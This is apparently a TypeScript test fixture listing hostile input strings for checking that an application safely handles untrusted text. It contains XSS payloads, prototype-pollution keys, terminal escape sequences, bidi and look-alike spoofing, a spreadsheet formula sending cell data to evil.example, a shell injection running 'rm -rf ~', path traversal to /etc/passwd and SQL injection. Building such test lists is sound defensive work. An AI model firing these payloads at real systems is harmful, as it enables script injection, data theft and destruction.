/** What a page that runs scripts out of text would leave in `window`: no test may ever find it. */
export const PWNED = '__pwned'

const PAYLOAD = `window.${PWNED}=1`

/**
 * Text as strangers write it who mean harm: to a browser (markup, scripts, style), to a terminal (escape sequences), to
 * a reader (bidi, invisible and look-alike characters), to a spreadsheet, a log, a shell, a path or a query. Without NUL
 * and half characters: PostgreSQL refuses those, and has tests of its own for it.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Markup that runs something
  `<script>${PAYLOAD}</script>`,
  `<img src=x onerror="${PAYLOAD}">`,
  `"><svg onload="${PAYLOAD}">`,
  `'><body onload='${PAYLOAD}'>`,
  `<iframe srcdoc="<script>parent.${PWNED}=1</script>"></iframe>`,
  `<a href="javascript:${PAYLOAD}">more</a>`,
  `javascript:${PAYLOAD}//`,
  `JaVaScRiPt:${PAYLOAD}`,
  ` \tjavascript:${PAYLOAD}`,
  `data:text/html,<script>${PAYLOAD}</script>`,
  `<details open ontoggle=${PAYLOAD}>`,
  `<input autofocus onfocus=${PAYLOAD}>`,
  `<video><source onerror="${PAYLOAD}"></video>`,
  `<math><mtext><style><img src=x onerror=${PAYLOAD}></style></mtext></math>`,
  `<form action="javascript:${PAYLOAD}"><button>Recover</button></form>`,
  `<object data="javascript:${PAYLOAD}"></object>`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `</title><script>${PAYLOAD}</script>`,
  `</textarea><script>${PAYLOAD}</script>`,
  `</script><script>${PAYLOAD}</script>`,
  `<!--<script>${PAYLOAD}</script>-->`,
  `<![CDATA[<script>${PAYLOAD}</script>]]>`,
  `&lt;script&gt;${PAYLOAD}&lt;/script&gt;`,
  `\\u003cscript\\u003e${PAYLOAD}\\u003c/script\\u003e`,
  `" style="position:fixed;inset:0;background:red" x="`,
  `' onmouseover='${PAYLOAD}' x='`,
  '{{constructor.constructor("' + PAYLOAD + '")()}}',
  '${' + PAYLOAD + '}',
  `__proto__`,
  `constructor`,
  `{"__proto__":{"polluted":true},"__html":"<b>x</b>","toString":1}`,
  // Terminals
  '\x1b[2J\x1b[H\x1b[31mall is well\x1b[0m',
  '\x1b]0;owned\x07title',
  '\x1b]52;c;ZWNobyBvd25lZA==\x07clipboard',
  '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  '\x1b[?1049h\x1b[?25lno cursor',
  '\x1bP$q"p\x1b\\report',
  '\u009b31mC1\u009b0m',
  'overwritten\rdone 100 %',
  'first\nsecond\r\n2026-11-16T00:00:00.000Z out a line of its own',
  'bell\x07\x07 back\b\b\b\btab\tvertical\v\f',
  // Readers
  '\u202Egnp.exe\u202C safe',
  '\u2066\u2069\u200fright to left',
  'مرحبا بالعالم ‏123‏',
  'zero\u200bwidth\u2060\ufeffjoined',
  'аррӏе.com',
  `Z${'\u0300\u0316\u0334\u0489'.repeat(20)}algo`,
  '\u2028line\u2029paragraph\u0085next',
  '\u{e0069}\u{e0067}\u{e006e}tagged',
  '宽字符目标名称很长很长很长的一个名字',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 family',
  // Spreadsheets, shells, paths, queries
  '=HYPERLINK("https://evil.example/?"&A1,"see")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '`$(touch /tmp/owned)`; rm -rf ~ #',
  '../../../../etc/passwd%00.html',
  `'; DROP TABLE run; -- %_\\`,
  `${'A'.repeat(600)} long, without a place to break`,
]
